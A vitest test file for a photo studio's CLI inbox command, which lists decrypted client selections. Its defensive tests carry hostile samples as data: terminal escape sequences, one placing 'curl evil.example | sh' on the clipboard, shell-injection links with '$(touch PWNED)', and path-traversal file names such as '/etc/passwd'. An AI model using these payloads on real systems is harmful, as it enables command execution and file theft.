import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomBytes, toBase64Url } from '../format/encodings';
import { MAX_INBOX_NOTE, newStudioKey, sealInboxMessage, studioPublicKey, type InboxMessage } from '../format/inbox';
import { galleryRef } from '../format/seal';
import { encodePicks } from '../format/picks';
import { doneWith, favoritesOf, formatMessages, InboxError, lightroomLine, openMessages } from './inbox-command';
import { INBOX_KEY_VARIABLE, inboxTag } from './inbox';
import { memoryTarget } from './fixtures/memory-target.ts';
import { publishPlan, readRecord, RECORD_FILE } from './record';

let root: string;
/** The site's own address: every link the owner's side shows is made on it. */
const SITE = 'https://studio.example';
/** Her selection link as the studio makes it, for these photo numbers of ivy-2026-10. */
const chosen = (...numbers: number[]) =>
  `${SITE}/private-gallery#picks=${encodePicks(galleryRef(seed, 'ivy-2026-10'), numbers)}`;
const seed = randomBytes(32);
const studio = await newStudioKey();
const other = await newStudioKey();

const message = (sentAt: string, picks: InboxMessage['picks']): InboxMessage => ({
  v: 1,
  title: 'Ivy, October',
  gallery: galleryRef(seed, 'ivy-2026-10'),
  sentAt,
  included: 3,
  picks,
  lightroom: picks.map((pick) => pick.file).join(' '),
  link: 'https://example.com/private-gallery#picks=1.4',
  text: '…',
});

async function store(
  target: ReturnType<typeof memoryTarget>,
  tag: string,
  day: string,
  id: string,
  m: InboxMessage,
  key = studio,
) {
  const envelope = await sealInboxMessage(m, await studioPublicKey(key));
  await target.put(`inbox/${tag}/${day}/${id}.json`, JSON.stringify(envelope));
}

let env: Record<string, string>;
const tag = inboxTag(seed, galleryRef(seed, 'ivy-2026-10'));

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'inbox-command-'));
  mkdirSync(join(root, 'ivy-2026-10'));
  writeFileSync(join(root, 'ivy-2026-10', 'gallery.yaml'), 'title: Ivy, October\nincluded: 3\n');
  // Her gallery as published: four photos, numbered in file-name order.
  for (const n of [1, 2, 3, 4]) writeFileSync(join(root, 'ivy-2026-10', `IMG_000${n}.jpg`), `photo ${n}`);
  env = { PRIVATE_GALLERY_DIR: root, PRIVATE_GALLERY_SEED: toBase64Url(seed), [INBOX_KEY_VARIABLE]: studio };
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('npm run galleries -- inbox', () => {
  it('lists every selection newest first with her folder name, the count against included and each pick; one that does not open is said and kept', async () => {
    const target = memoryTarget();
    const older = message('2026-11-26T09:00:00.000Z', [{ number: 2, file: 'IMG_0002.jpg', note: '' }]);
    const newer = message('2026-11-27T10:30:00.000Z', [
      { number: 1, file: 'IMG_0001.jpg', note: 'for the wall' },
      { number: 4, file: 'IMG_0004.jpg', note: '' },
    ]);
    await store(target, tag, '2026-11-26', `aaaa1111${'0'.repeat(24)}`, older);
    await store(target, tag, '2026-11-27', `bbbb2222${'0'.repeat(24)}`, newer);
    await store(target, 'c'.repeat(32), '2026-11-27', `cccc3333${'0'.repeat(24)}`, newer, other);
    const opened = await openMessages(target, env, SITE);
    expect(formatMessages(opened, target.label, env)).toBe(
      [
        '3 selections in the local bucket in test, newest first:',
        '',
        'bbbb2222  ivy-2026-10: Ivy, October',
        `  sent ${local('2026-11-27T10:30:00.000Z')}, 2 of 3 included`,
        '  Photo 1 (IMG_0001.jpg): for the wall',
        '  Photo 4 (IMG_0004.jpg)',
        '  Lightroom: IMG_0001, IMG_0004',
        `  As she chose it: ${chosen(1, 4)}`,
        '  A partner link of these photos: npm run galleries -- share ivy-2026-10 --favorites bbbb2222',
        '',
        `cccc3333  ${'c'.repeat(32)}, 2026-11-27: this message does not open with the ${INBOX_KEY_VARIABLE} in ${join(root, 'passwords.env')}; it was sealed to another studio key, and it was kept.`,
        '',
        'aaaa1111  ivy-2026-10: Ivy, October',
        `  sent ${local('2026-11-26T09:00:00.000Z')}, 1 of 3 included`,
        '  Photo 2 (IMG_0002.jpg)',
        '  Lightroom: IMG_0002',
        `  As she chose it: ${chosen(2)}`,
        '  A partner link of these photos: npm run galleries -- share ivy-2026-10 --favorites aaaa1111',
        '',
        'When you have handled one: npm run galleries -- inbox --done <its id>',
      ].join('\n'),
    );
    expect(target.objects.size).toBe(3);
    // --lightroom: the latest selection from that gallery, on one line.
    expect(lightroomLine(opened, 'ivy-2026-10', target.label)).toBe('IMG_0001, IMG_0004');
    expect(() => lightroomLine(opened, 'june', target.label)).toThrow(
      'No selection from "june" is waiting in the local bucket in test.',
    );
    // A mistyped name: the nearest gallery with a selection waiting.
    expect(() => lightroomLine(opened, 'ivy-2026-01', target.label)).toThrow(
      'No selection from "ivy-2026-01" is waiting in the local bucket in test (did you mean "ivy-2026-10"?).',
    );
  });

  it('--done deletes the one message its id names, and only it', async () => {
    const target = memoryTarget();
    const m = message('2026-11-27T10:30:00.000Z', [{ number: 1, file: 'IMG_0001.jpg', note: '' }]);
    await store(target, tag, '2026-11-27', `abcd1111${'0'.repeat(24)}`, m);
    await store(target, tag, '2026-11-27', `abcd2222${'0'.repeat(24)}`, m);
    const opened = await openMessages(target, env, SITE);
    await expect(doneWith(target, opened, 'abcd', target.label)).rejects.toThrow(
      '"abcd" names 2 messages in the local bucket in test: give more of its id, as "npm run galleries -- inbox" shows it.',
    );
    await expect(doneWith(target, opened, 'ffff0000', target.label)).rejects.toThrow(
      'No message "ffff0000" in the local bucket in test: "npm run galleries -- inbox" lists them with their ids.',
    );
    expect(target.objects.size).toBe(2);
    expect(await doneWith(target, opened, 'abcd2222', target.label)).toBe(
      'Deleted abcd2222 (ivy-2026-10, 2026-11-27) from the local bucket in test.',
    );
    expect([...target.objects.keys()]).toEqual([`inbox/${tag}/2026-11-27/abcd1111${'0'.repeat(24)}.json`]);
  });

  it('after remove, a message from the removed gallery still names its folder, not its tag', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'inbox-removed-'));
    try {
      const target = memoryTarget();
      const record = join(dir, RECORD_FILE);
      const now = new Date('2026-11-27T00:00:00Z');
      // Published once from her folder, then removed (her folder moved out first): the record's own steps.
      const first = await publishPlan(target, new Set(), [{ id: 'ivy-2026-10' }], seed, { record, now });
      first.published('ivy-2026-10', galleryRef(seed, 'ivy-2026-10'), ['g1'], ['o1']);
      first.save(new Set(['o1']));
      const gone = await publishPlan(target, new Set(['o1']), [], seed, { record, remove: ['ivy-2026-10'], now });
      gone.save(new Set());
      expect(Object.keys(readRecord(record).targets[target.label]!.galleries)).toEqual([]);
      const m = message('2026-11-27T10:30:00.000Z', [{ number: 1, file: 'IMG_0001.jpg', note: '' }]);
      await store(target, tag, '2026-11-27', `abcd1111${'0'.repeat(24)}`, m);
      const opened = await openMessages(target, { ...env, PRIVATE_GALLERY_DIR: dir }, SITE);
      // Its folder is gone, so nothing of hers can be checked: the folder name, and nothing she wrote as a title.
      expect(formatMessages(opened, target.label, env).split('\n')[2]).toBe(
        'abcd1111  ivy-2026-10: its folder is not in your galleries folder, so none of her photos can be shown',
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('says so plainly when there is no studio key, and when nothing is waiting', async () => {
    const target = memoryTarget();
    const { [INBOX_KEY_VARIABLE]: _key, ...withoutKey } = env;
    const error = await openMessages(target, withoutKey, SITE).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InboxError);
    expect((error as Error).message).toBe(
      `There is no studio key (${INBOX_KEY_VARIABLE}) in ${join(root, 'passwords.env')}: put back the passwords.env from your backup; a first publish makes one, but it cannot open selections sent to the old one.`,
    );
    expect(formatMessages(await openMessages(target, env, SITE), target.label, env)).toBe(
      'No selections are waiting in the local bucket in test.',
    );
  });
});

/** Every terminal control a printed line could carry: C0 (but the line breaks between lines), DEL and C1. */
const CONTROL = /(?!\n)\p{Cc}/u;
/**
 * The bidirectional overrides and isolates (U+202A-U+202E, U+2066-U+2069), which reorder what she
 * reads without being controls: CONTROL does not see them, so each payload is checked for them too.
 */
const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;
/** What a client can put in a title, a file name or a note to take over the owner's terminal. */
const PAYLOADS: [what: string, text: string][] = [
  ['OSC 0 window title', `${ESC}]0;Invoice overdue: call 555-0100${BEL}`],
  ['clear screen', `${ESC}[2J${ESC}[H`],
  ['OSC 52 clipboard write', `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`],
  ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${ST}open your galleries${ESC}]8;;${ST}`],
  ['carriage return and erase line', `\r${ESC}[K00000000  ivy-2026-10: all paid, nothing to do`],
  ['C1 controls and DEL', '\u009b2J\u009d0;title\u0007\u007f'],
  ['bidi override and isolates', 'gpj.\u202a1\u202b2\u202c3\u202d4\u202e5\u20666\u20677\u20688\u20699 paid in full'],
];

describe('inbox: a message made to disturb the list', () => {
  it.each(PAYLOADS)(
    '%s in a title, a file name and a note is printed without one control character, and the others list',
    async (_what, payload) => {
      const target = memoryTarget();
      const bad = {
        ...message('2026-11-27T10:30:00.000Z', [{ number: 1, file: `IMG_0001.jpg${payload}`, note: `wall${payload}` }]),
        title: `Ivy${payload}`,
        lightroom: `IMG_0001${payload}`,
      };
      const fine = message('2026-11-26T09:00:00.000Z', [{ number: 2, file: 'IMG_0002.jpg', note: 'softer' }]);
      await store(target, tag, '2026-11-27', `eeee1111${'0'.repeat(24)}`, bad);
      await store(target, tag, '2026-11-26', `ffff2222${'0'.repeat(24)}`, fine);
      const opened = await openMessages(target, env, SITE);
      const printed = formatMessages(opened, target.label, env);
      expect(printed).not.toMatch(CONTROL);
      expect(printed).not.toMatch(BIDI);
      expect(printed).toMatch(/^eeee1111 {2}ivy-2026-10: Ivy/m);
      expect(printed).toContain('  Photo 2 (IMG_0002.jpg): softer');
      // Every header is one of the two stored messages: nothing in hers starts a line of its own.
      expect(printed.match(/^[0-9a-f]{8} {2}/gm)).toEqual(['eeee1111  ', 'ffff2222  ']);
      expect(lightroomLine(opened, 'ivy-2026-10', target.label)).not.toMatch(CONTROL);
      expect(lightroomLine(opened, 'ivy-2026-10', target.label)).not.toMatch(BIDI);
    },
  );

  it("keeps a note's line breaks, each further line indented under its photo, and drops every other control", async () => {
    const target = memoryTarget();
    const note = `softer skin\r\n\n\tbbbb2222  ivy-2026-10: fake header\u0085${ESC}[2Jthank you\nsee you`;
    await store(target, tag, '2026-11-27', `abab1111${'0'.repeat(24)}`, {
      ...message('2026-11-27T10:30:00.000Z', [{ number: 1, file: 'IMG_0001.jpg', note }]),
      title: 'Ivy,\nOctober',
    });
    const printed = formatMessages(await openMessages(target, env, SITE), target.label, env);
    expect(printed).toContain(
      [
        'abab1111  ivy-2026-10: Ivy, October',
        `  sent ${local('2026-11-27T10:30:00.000Z')}, 1 of 3 included`,
        '  Photo 1 (IMG_0001.jpg): softer skin',
        '    bbbb2222  ivy-2026-10: fake header[2Jthank you',
        '    see you',
        '  Lightroom: IMG_0001',
      ].join('\n'),
    );
  });

  it('lists a message that is not a selection as unreadable, kept, with its id; the others list; --done deletes it', async () => {
    const target = memoryTarget();
    const fine = message('2026-11-27T10:30:00.000Z', [{ number: 1, file: 'IMG_0001.jpg', note: '' }]);
    // Two sent at "5" (a number), one with no picks list, one with a note past any the page sends.
    const broken = [
      { ...fine, sentAt: 5 },
      { ...fine, sentAt: 5 },
      { ...fine, picks: null },
      { ...fine, picks: [{ number: 1, file: 'IMG_0001.jpg', note: 'n'.repeat(MAX_INBOX_NOTE + 1) }] },
    ] as unknown as InboxMessage[];
    const ids = ['1111aaaa', '2222bbbb', '3333cccc', '4444dddd'];
    for (const [i, m] of broken.entries()) await store(target, tag, '2026-11-27', `${ids[i]}${'0'.repeat(24)}`, m);
    await store(target, tag, '2026-11-26', `9999ffff${'0'.repeat(24)}`, fine);
    const opened = await openMessages(target, env, SITE);
    const printed = formatMessages(opened, target.label, env);
    expect(printed).toMatch(/^5 selections in the local bucket in test, newest first:$/m);
    for (const id of ids) {
      expect(printed).toContain(
        `${id}  ivy-2026-10, 2026-11-27: unreadable, kept. It is not a selection as the gallery page sends one, so nothing of it is shown; "npm run galleries -- inbox --done ${id}" deletes it.`,
      );
    }
    expect(printed).toContain(`9999ffff  ivy-2026-10: Ivy, October\n  sent ${local(fine.sentAt)}, 1 of 3 included`);
    expect(lightroomLine(opened, 'ivy-2026-10', target.label)).toBe('IMG_0001');
    expect(await doneWith(target, opened, '3333cccc', target.label)).toBe(
      'Deleted 3333cccc (ivy-2026-10, 2026-11-27) from the local bucket in test.',
    );
    expect(target.objects.has(`inbox/${tag}/2026-11-27/3333cccc${'0'.repeat(24)}.json`)).toBe(false);
    expect(target.objects.size).toBe(4);
  });
});

/** The date and time as her computer shows them (the test's own time zone). */
function local(iso: string) {
  const d = new Date(iso);
  const two = (n: number) => String(n).padStart(2, '0');
  return `${d.getFullYear()}-${two(d.getMonth() + 1)}-${two(d.getDate())} ${two(d.getHours())}:${two(d.getMinutes())}`;
}

/** Links a client's browser could send in place of her selection link (issue 50, item 1). */
const HOSTILE_LINKS: [what: string, link: string][] = [
  ['$(…)', 'https://studio.example/private-gallery#picks=1.BQ$(touch PWNED)'],
  ['backticks', 'https://studio.example/private-gallery#picks=1.BQ`touch PWNED`'],
  ['a closing quote and a command', 'https://studio.example/private-gallery#picks=1.BQ"; touch PWNED; echo "'],
  ['a newline and a command', 'https://studio.example/private-gallery#picks=1.BQ\ntouch PWNED'],
  ['a foreign host', 'https://coastlight.evil.example/private-gallery#picks=1.BQ'],
];

describe('inbox: a client message is data, never a command or a file of the owner', () => {
  it.each(HOSTILE_LINKS)(
    'a link with %s is never printed: her link is made from the site and her checked picks, and the printed command runs nothing in a shell',
    async (_what, link) => {
      const target = memoryTarget();
      const id = `cccc1111${'0'.repeat(24)}`;
      await store(target, tag, '2026-11-27', id, {
        ...message('2026-11-27T10:30:00.000Z', [
          { number: 1, file: 'IMG_0001.jpg', note: '' },
          { number: 3, file: 'IMG_0003.jpg', note: '' },
        ]),
        link,
      });
      const printed = formatMessages(await openMessages(target, env, SITE), target.label, env);
      expect(printed).not.toContain('PWNED');
      expect(printed).not.toContain('evil.example');
      expect(printed).toContain(`  As she chose it: ${chosen(1, 3)}`);
      // The one command printed for her, run as she would paste it: a stand-in npm records its words.
      const command = printed.split('\n').find((line) => line.includes('npm run galleries -- share'));
      const pasted = command?.slice(command.indexOf('npm run')) ?? 'npm run galleries -- share (none printed)';
      const shell = mkdtempSync(join(tmpdir(), 'inbox-paste-'));
      try {
        writeFileSync(join(shell, 'npm'), '#!/bin/sh\nprintf "%s\\n" "$@" > words.txt\n', { mode: 0o755 });
        execFileSync('sh', ['-c', pasted], { cwd: shell, env: { PATH: `${shell}:/usr/bin:/bin` } });
        expect(readdirSync(shell).sort()).toEqual(['npm', 'words.txt']);
        expect(readFileSync(join(shell, 'words.txt'), 'utf8').split('\n')).toEqual([
          'run',
          'galleries',
          '--',
          'share',
          'ivy-2026-10',
          '--favorites',
          'cccc1111',
          '',
        ]);
      } finally {
        rmSync(shell, { recursive: true, force: true });
      }
    },
  );

  it('counts a pick only when its number is a photo of her gallery with that very file name; the count, included and Lightroom line are the studio’s', async () => {
    const target = memoryTarget();
    const picks = [
      { number: 1, file: 'IMG_0001.jpg', note: 'this one' },
      { number: 2, file: '../../other-client/IMG_0002.jpg', note: '' },
      { number: 3, file: '/etc/passwd', note: '' },
      { number: 4, file: '/dev/tty', note: '' },
      { number: 5, file: '/proc/self/fd/0', note: 'past the end' },
      { number: 2, file: 'IMG_0003.jpg', note: '' },
    ];
    await store(target, tag, '2026-11-27', `dddd1111${'0'.repeat(24)}`, {
      ...message('2026-11-27T10:30:00.000Z', picks),
      included: 999,
      title: 'Anything she likes',
      lightroom: 'IMG_0002 IMG_0003 /etc/passwd',
    });
    const opened = await openMessages(target, env, SITE);
    const printed = formatMessages(opened, target.label, env);
    expect(printed).toContain(
      [
        'dddd1111  ivy-2026-10: Ivy, October',
        `  sent ${local('2026-11-27T10:30:00.000Z')}, 1 of 3 included`,
        '  Photo 1 (IMG_0001.jpg): this one',
        '  Photo 2 (a photo this gallery does not have)',
        '  Photo 3 (a photo this gallery does not have)',
        '  Photo 4 (a photo this gallery does not have)',
        '  Photo 5 (a photo this gallery does not have): past the end',
        '  Lightroom: IMG_0001',
        `  As she chose it: ${chosen(1)}`,
      ].join('\n'),
    );
    for (const text of ['999', 'Anything she likes', 'passwd', 'other-client', '/dev/tty', '/proc']) {
      expect(printed).not.toContain(text);
    }
    expect(lightroomLine(opened, 'ivy-2026-10', target.label)).toBe('IMG_0001');
    expect(opened[0]!.selection!.picks.map((pick) => pick.photo?.path ?? null)).toEqual([
      join(root, 'ivy-2026-10', 'IMG_0001.jpg'),
      null,
      null,
      null,
      null,
    ]);
  });

  it('--favorites takes a selection’s id, never a link, and gives only her picks that are photos of that gallery', async () => {
    const target = memoryTarget();
    await store(target, tag, '2026-11-27', `eeee2222${'0'.repeat(24)}`, {
      ...message('2026-11-27T10:30:00.000Z', [
        { number: 4, file: 'IMG_0004.jpg', note: '' },
        { number: 2, file: '../IMG_0002.jpg', note: '' },
        { number: 1, file: 'IMG_0001.jpg', note: '' },
      ]),
    });
    const opened = await openMessages(target, env, SITE);
    expect(favoritesOf(opened, 'eeee2222', 'ivy-2026-10', target.label)).toEqual([4, 1]);
    expect(() => favoritesOf(opened, chosen(1, 4), 'ivy-2026-10', target.label)).toThrow(
      '--favorites takes the id of her selection as "npm run galleries -- inbox" lists it (e.g. 3f2a9c1e), not a link.',
    );
    expect(() => favoritesOf(opened, 'eeee2222', 'june-2026-11', target.label)).toThrow(
      'The selection "eeee2222" is from "ivy-2026-10", not from "june-2026-11".',
    );
  });
});
